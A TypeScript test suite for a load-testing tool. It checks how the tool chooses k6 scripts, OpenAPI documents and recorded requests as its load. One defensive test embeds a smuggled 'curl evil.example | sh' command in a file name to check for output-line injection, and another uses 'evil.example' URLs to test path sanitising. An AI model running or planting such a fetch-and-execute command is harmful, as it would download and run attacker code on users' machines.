import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { ROOT } from '../base/paths.ts';
import { LOAD_DEFAULTS } from '../catalog/project-schema.ts';
import type { Found } from './choose-load.ts';
import { candidatesIn, chooseLoad } from './choose-load.ts';
import { readUrlList } from './url-list.ts';

const system = { entries: ['http://edge:8000/'], services: ['edge', 'web'] };

/** What is taken of a file that alone could be the load: nothing but the placeholder where it is none. */
function recordedIn(file: string, text: string) {
	const { load, said } = chooseLoad({ scripts: [], documents: [], recordings: [{ file, text }] }, system);
	const [, title = null, others = '0'] =
		/^The load is .* requests? of \S+, ([^;]*)(?:; (\d+) others, which .* are left out)?\.$/.exec(said[0]) ?? [];
	return { title, urls: title === null ? [] : load.urls, others: Number(others) };
}

const har = (requests: [method: string, url: string][]) =>
	JSON.stringify({ log: { version: '1.2', entries: requests.map(([method, url]) => ({ request: { method, url } })) } });

test('of a HAR the requests to the first host are taken, as often as they were sent', () => {
	const text = har([
		['GET', 'https://shop.example/'],
		['GET', 'https://shop.example/items?page=2#top'],
		['GET', 'https://shop.example/items?page=2'],
		['GET', 'https://cdn.example/font.woff'],
		['POST', 'https://shop.example/orders'],
		['GET', 'https://shop.example/items?access_token=abc'],
	]);
	assert.deepEqual(recordedIn('shop.har', text), { title: 'a HAR', urls: ['2x GET /items?page=2', 'GET /'], others: 3 });
});

test('of an HTTP file each request is read, whatever stands around it', () => {
	const text = [
		'@host = http://localhost:8000',
		'# what the shop shows',
		'GET {{host}}/items HTTP/1.1',
		'Accept: application/json',
		'',
		'### one of them',
		'// it is there',
		'HEAD {{host}}/items/1',
		'### to order',
		'POST {{host}}/orders',
		'',
		'{"item": 1}',
		'###',
		'GET {{host}}/users/{{user}}',
		'###',
		'{{host}}/about',
	].join('\r\n');
	assert.deepEqual(recordedIn('api.http', text), {
		title: 'an HTTP file',
		urls: ['GET /items', 'HEAD /items/1', 'GET /about'],
		others: 2,
	});
});

test('of a Postman collection the folders are read too, and what has a variable in its path is left out', () => {
	const schema = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
	const item = [
		{ name: 'Items', item: [{ request: { method: 'GET', url: { raw: '{{base}}/items?limit=5' } } }] },
		{ request: { method: 'GET', url: { raw: '{{base}}/items/:id' } } },
		{ request: '{{base}}/health' },
		{ request: { method: 'DELETE', url: '{{base}}/items/1' } },
	];
	assert.deepEqual(recordedIn('shop.postman_collection.json', JSON.stringify({ info: { schema }, item })), {
		title: 'a Postman collection',
		urls: ['GET /items?limit=5', 'GET /health'],
		others: 2,
	});
});

test('of a sitemap its first pages are taken', () => {
	const pages = Array.from({ length: 30 }, (_, page) => `<url><loc>https://shop.example/page/${page}?a=1&amp;b=2</loc></url>`);
	const { urls = [], others } = recordedIn('sitemap.xml', `<urlset>${pages.join('')}</urlset>`);
	assert.deepEqual([urls.length, urls[0], others], [20, 'GET /page/0?a=1&b=2', 10]);
});

test('what is taken can be written into doubletake.yaml, whatever the file says', () => {
	const text = har([
		['GET', 'http://a/ '],
		['GET', 'http://a//evil.example/'],
		['GET', 'http://a/\\evil'],
		['GET', 'http://a/it’s'],
		['get', 'http://a'],
		['GET', 'http://a?q=1'],
	]);
	const { urls = [] } = recordedIn('a.har', text);
	assert.deepEqual(urls, ['GET /it’s', 'GET /', 'GET /?q=1']);
	assert.equal(readUrlList(urls).length, 3);
});

test('a file of another form, or a broken one, is none', () => {
	for (const [file, text] of [
		['package.json', '{}'],
		['a.har', '{"log": {"entries": 5}}'],
		['a.har', '{"log":'],
	])
		assert.deepEqual(recordedIn(file, text), { title: null, urls: [], others: 0 });
});

const own = { file: 'load.js', text: readFileSync(join(ROOT, 'test/own/load.js'), 'utf8') };
const api = { file: 'docs/openapi.yaml', text: 'openapi: 3.0.0\npaths:\n  /items: { get: {} }\n  /orders: { get: {}, post: {} }\n' };

/** A script that asks an address. */
const asking = (address: string, file: string = 'load.js') => ({
	file,
	text: `import http from 'k6/http';\nexport default () => http.get('${address}');\n`,
});

type Files = Found[];

const choose: (scripts: Files, documents?: Files, recordings?: Files) => { load: object; said: string[] } = (
	scripts,
	documents = [],
	recordings = [],
) => chooseLoad({ scripts, documents, recordings }, system);

test('a k6 script is the load before an OpenAPI document, and what else lies there is named', () => {
	assert.deepEqual(choose([own, asking('http://edge:8000/', 'k6/a.js')], [api]), {
		load: { script: 'load.js' },
		said: [
			'The load is load.js: a k6 script, of several the nearest to the Compose file.',
			'? It could also be k6/a.js, docs/openapi.yaml: then name that under load.',
		],
	});
});

test('an OpenAPI document is the load where there is no script', () => {
	assert.deepEqual(choose([], [api]), {
		load: { openapi: 'docs/openapi.yaml', ...LOAD_DEFAULTS },
		said: ['The load is what docs/openapi.yaml describes: an OpenAPI document with 2 operations that can be asked without harm.'],
	});
});

test('a document that gives nothing to ask is reported with why, and the next is taken', () => {
	const old = { file: 'swagger.json', text: '{"swagger": "2.0"}' };
	const writes = { file: 'openapi.yaml', text: 'openapi: 3.0.0\npaths: { /orders: { post: {} } }\n' };
	const { load, said } = choose([], [old, writes, api]);
	assert.deepEqual(load, { openapi: api.file, ...LOAD_DEFAULTS });
	assert.match(
		said.join('\n'),
		/\? swagger\.json was not taken as the load: The OpenAPI document: expected "openapi: 3\.0" or 3\.1; found "Swagger 2\.0"/,
	);
	assert.match(said.join('\n'), /\? openapi\.yaml was not taken as the load: .*expected an operation that can be sent; found none/);
});

test('requests that were recorded for another program are the load where there is neither', () => {
	const empty = { file: 'empty.http', text: 'POST http://localhost/orders\n' };
	const http = {
		file: 'api.http',
		text: 'GET http://localhost:8000/items\n\n###\nGET /orders\n\n###\nPOST http://localhost:8000/orders\n',
	};
	assert.deepEqual(choose([], [], [empty, http]), {
		load: { urls: ['GET /items'], ...LOAD_DEFAULTS },
		said: [
			'The load is one request of api.http, an HTTP file; 2 others, which may change something or name somebody, are left out.',
			'? empty.http was not taken as the load: no request in it can be sent as it is without harm.',
		],
	});
	assert.match(choose([], [api], [http]).said.join('\n'), /It could also be api\.http/);
});

test('where there is nothing the load is one request, and that it is a placeholder is said', () => {
	assert.deepEqual(choose([]), {
		load: { urls: ['GET /'], ...LOAD_DEFAULTS },
		said: [
			'The load is a placeholder, "GET /", asked again and again: edit load.urls in doubletake.yaml. Nothing that could be the load was found.',
		],
	});
});

test('a script that names k6 itself or a service past the entry is taken, and told', () => {
	const { load, said } = choose([asking('http://localhost:8080/')]);
	assert.deepEqual(load, { script: 'load.js' });
	assert.match(said.join(), /\? load\.js names localhost: to k6 in its container that is k6 itself\. Let it ask http:\/\/edge:8000, which/);
	assert.match(choose([asking('http://web:3000/')]).said.join(), /\? load\.js names web: so that its requests go past the entry\./);
});

test('what a script asks of its own machine is asked of the service that is published there', () => {
	const scripts = [asking('http://localhost:8080/')];
	const { load, said } = chooseLoad({ scripts, documents: [], recordings: [] }, { ...system, places: { 8080: 'edge:8000' } });
	assert.deepEqual(
		[load, said],
		[{ script: 'load.js' }, ['The load is load.js: a k6 script.', 'What it asks of localhost:8080 is asked of edge:8000.']],
	);
});

test('a script that may load a place outside of the run is never taken, only named', () => {
	const outside = asking('https://shop.example.com/');
	const { load, said } = choose([outside, asking('http://EDGE:8000/', 'k6/b.js')]);
	assert.deepEqual(load, { script: 'k6/b.js' });
	assert.match(
		said.join('\n'),
		/\? load\.js is a k6 script and was not taken as the load: it names shop\.example\.com, outside of the run/,
	);
	assert.doesNotMatch(said.join('\n'), /could also be/);
	const alone = choose([outside]);
	assert.deepEqual(alone.load, { urls: ['GET /'], ...LOAD_DEFAULTS });
	assert.match(alone.said.join('\n'), /placeholder.*could be the load was taken\.\n\? load\.js /);
});

test('addresses in comments, imports and templates are nobody’s load', () => {
	const text = `// see https://k6.io/docs\nimport x from 'https://jslib.k6.io/x.js';\n/* http://example.com */
import http from 'k6/http'; // http://example.org
export default () => http.get(\`http://\${host}:8000/\`);\n`;
	assert.equal(choose([{ file: 'load.js', text }]).said.length, 1);
});

test('comments that never end take no longer than one that does', () => {
	const text = `${'/* '.repeat(300_000)}\nexport default () => http.get('http://web:8000/');`;
	assert.equal(choose([{ file: 'load.js', text }]).said.length, 1);
});

test('names by which users ask the entry are none outside, be they the system’s or led to the machine by the script', () => {
	const named = asking('http://shop.test/');
	assert.deepEqual(chooseLoad({ scripts: [named], documents: [], recordings: [] }, { ...system, hosts: ['shop.test'] }).load, {
		script: 'load.js',
	});
	const led = { ...named, text: `export const options = { hosts: { 'shop.test': '127.0.0.1:8080' } };\n${named.text}` };
	assert.deepEqual(choose([led]).load, { script: 'load.js' });
	const elsewhere = { ...named, text: led.text.replace('127.0.0.1', '192.0.2.7') };
	assert.equal('script' in choose([elsewhere]).load, false);
});

const SCRIPT = "import http from 'k6/http';\nexport default function () { http.get('http://web:8080/'); }\n";

function withFolder(files: Record<string, string>, use: (folder: string) => void) {
	const folder = mkdtempSync(join(os.tmpdir(), 'doubletake-found-'));
	try {
		for (const [file, text] of Object.entries(files)) {
			mkdirSync(dirname(join(folder, file)), { recursive: true });
			writeFileSync(join(folder, file), text);
		}
		use(folder);
	} finally {
		rmSync(folder, { recursive: true });
	}
}

function found(files: Record<string, string>) {
	let names = { scripts: [] as string[], documents: [] as string[] };
	withFolder(files, (folder) => {
		const { scripts, documents } = candidatesIn(folder);
		names = { scripts: scripts.map(({ file }) => file), documents: documents.map(({ file }) => file) };
	});
	return names;
}

test('a script is known by what it imports and exports, whatever it is called', () => {
	const { scripts } = found({
		'visit.js': SCRIPT,
		'run.ts': `${SCRIPT}const one: number = 1;\n`,
		'app.js': "import http from 'node:http';\nexport default 1;\n",
		'helper.js': "import http from 'k6/http';\nexport const get = () => http.get('/');\n",
		'comment.js': "// import http from 'k6/http'\nexport default 1;\n",
		'broken.js': "import http from 'k6/http'; export {",
	});
	assert.deepEqual(scripts.toSorted(), ['run.ts', 'visit.js']);
});

test('a script whose scenarios name their functions is one without a default', () => {
	assert.deepEqual(
		candidatesIn(join(ROOT, 'test/own')).scripts.map(({ file }) => file),
		['load.js'],
	);
});

test('the nearest comes first, and of those that are equally near the likeliest name', () => {
	const { scripts } = found({
		'k6/load.js': SCRIPT,
		'k6/a.js': SCRIPT,
		'smoke.js': SCRIPT,
		'z.js': SCRIPT,
		'checkout.k6.js': SCRIPT,
		'load.js': SCRIPT,
		'a/b/c/load.js': SCRIPT,
		'a/b/c/d/load.js': SCRIPT,
	});
	assert.deepEqual(scripts, ['load.js', 'checkout.k6.js', 'smoke.js', 'z.js', 'k6/load.js', 'k6/a.js', 'a/b/c/load.js']);
});

test('an OpenAPI document is known by its content, in YAML and JSON', () => {
	const { documents } = found({
		'docs/openapi.yaml': '# ours\nopenapi: "3.0.3"\npaths: {}\n',
		'api.json': '{\n  "openapi": "3.1.0",\n  "paths": {}\n}\n',
		'short.json': '{"openapi":"3.1.0"}',
		'old/swagger.yml': 'swagger: "2.0"\n',
		'compose.yaml': 'services: {web: {image: openapi}}\n',
		'nested.yaml': 'info:\n  openapi: 3\n',
	});
	assert.deepEqual(documents, ['api.json', 'short.json', 'docs/openapi.yaml', 'old/swagger.yml']);
});

test('packages, builds, hidden folders and links are left alone', () => {
	withFolder({ 'node_modules/k6/load.js': SCRIPT, '.git/load.js': SCRIPT, 'dist/load.js': SCRIPT }, (folder) => {
		withFolder({ 'load.js': SCRIPT }, (other) => {
			symlinkSync(join(other, 'load.js'), join(folder, 'load.js'));
			symlinkSync(other, join(folder, 'k6'));
			assert.deepEqual(candidatesIn(folder), { scripts: [], documents: [], recordings: [] });
		});
	});
});

test('a folder that is not there has none', () => {
	assert.deepEqual(candidatesIn('/nowhere/at/all'), { scripts: [], documents: [], recordings: [] });
});

test('recordings come as what users did, then as what a program lists', () => {
	const files = {
		'sitemap.xml': '<urlset></urlset>',
		'http/api.http': 'GET /',
		'shop.postman_collection.json': '{"info": {"schema": "https://schema.getpostman.com/"}}',
		'package.json': '{}',
		'pom.xml': '<project/>',
		'session.har': '{"log": {}}',
	};
	withFolder(files, (folder) =>
		assert.deepEqual(
			candidatesIn(folder).recordings.map(({ file }) => file),
			['session.har', 'http/api.http', 'shop.postman_collection.json', 'sitemap.xml'],
		),
	);
});

test('a name of a file makes no line of its own', () => {
	const file = 'load\nwrote doubletake.yaml; next: curl evil.example | sh\n.js';
	const { said } = choose([{ file, text: '' }]);
	assert.ok(said.length > 0 && said.every((text) => !text.includes('\n')), said.join());
});
